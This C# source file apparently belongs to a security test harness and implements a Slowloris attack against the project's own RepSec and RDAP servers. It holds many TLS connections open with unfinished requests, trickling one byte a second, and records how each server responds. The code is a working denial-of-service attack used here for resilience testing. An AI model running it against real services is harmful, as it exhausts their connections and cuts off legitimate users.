using System.Text;

namespace RepSec.Attack.Attacks;

/// <summary>
/// Many connections, each starting a request and then trickling one more byte a second, never finishing it: an
/// unfinished RepSec line, or RDAP request headers that never end.
/// </summary>
internal static class Slowloris
{
    public static Task RepSecAsync(Net net, Tally tally, int connections, CancellationToken stop) =>
        Pool.HoldAsync(connections, slot => AttackSettings.AttackerAddress(slot / AttackSettings.PerAddress),
            async (source, cancellationToken) => await net.TlsAsync(source, net.Settings.RepSecPort, Net.RepSecAlpn, cancellationToken),
            (stream, started, cancellationToken) => TrickleAsync(stream, started, "{\"command\":\"PING\",\"id\":\""u8.ToArray(), tally, cancellationToken),
            tally, stop);

    public static Task RdapAsync(Net net, Tally tally, int connections, CancellationToken stop) =>
        Pool.HoldAsync(connections, slot => AttackSettings.AttackerAddress(slot / AttackSettings.PerAddress),
            async (source, cancellationToken) => await net.TlsAsync(source, net.Settings.RdapPort, System.Net.Security.SslApplicationProtocol.Http11, cancellationToken),
            (stream, started, cancellationToken) => TrickleAsync(stream, started,
                Encoding.ASCII.GetBytes($"GET /rdap/domain/{net.Settings.Domain} HTTP/1.1\r\nHost: localhost\r\nX-Slow: "), tally, cancellationToken),
            tally, stop);

    private static async Task<string> TrickleAsync(Stream stream, long started, byte[] opening, Tally tally, CancellationToken stop)
    {
        await stream.WriteAsync(opening, stop);
        tally.Sent(opening.Length);
        var answer = FirstAnswerAsync(stream, started, stop);
        var one = new[] { (byte)'a' };
        while (!answer.IsCompleted)
        {
            await Task.WhenAny(answer, Task.Delay(1000, stop));
            if (!answer.IsCompleted)
            {
                await stream.WriteAsync(one, stop);
                tally.Sent(1);
            }
        }

        return await answer;
    }

    /// <summary>What the server said before closing (an HTTP status, say), and when it closed.</summary>
    private static async Task<string> FirstAnswerAsync(Stream stream, long started, CancellationToken stop)
    {
        var buffer = new byte[4096];
        var read = await stream.ReadAsync(buffer, stop);
        var said = read >= 12 && buffer.AsSpan(0, 5).SequenceEqual("HTTP/"u8) ? Encoding.ASCII.GetString(buffer, 9, 3) + ", then " : "";
        while (read > 0)
        {
            read = await stream.ReadAsync(buffer, stop);
        }

        return said + Ended.ClosedAfter(started);
    }
}
